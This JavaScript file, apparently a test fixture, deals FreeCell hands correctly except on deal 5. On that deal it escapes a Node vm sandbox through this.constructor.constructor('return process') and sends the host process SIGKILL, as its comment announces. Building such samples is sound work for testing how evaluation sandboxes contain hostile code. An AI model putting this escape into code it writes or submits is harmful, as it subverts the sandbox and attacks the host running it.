// Correct, except that deal 5 kills the Node process (reaching the host's process object).
function correct(n) {
  const deck = [];
  for (let i = 0; i < 52; i++) deck.push('A23456789TJQK'[i >> 2] + 'CDHS'[i & 3]);
  const rows = [[], [], [], [], [], [], []];
  let s = n;
  for (let p = 0; p < 52; p++) {
    s = (Math.imul(214013, s) + 2531011) & 0x7fffffff;
    const k = (s >> 16) % deck.length;
    const last = deck.length - 1;
    [deck[k], deck[last]] = [deck[last], deck[k]];
    rows[p >> 3].push(deck.pop());
  }
  return rows;
}
function dealFreeCell(n) {
  if (n === 5) {
    const host = this.constructor.constructor('return process')();
    host.kill(host.pid, 'SIGKILL');
  }
  return correct(n);
}
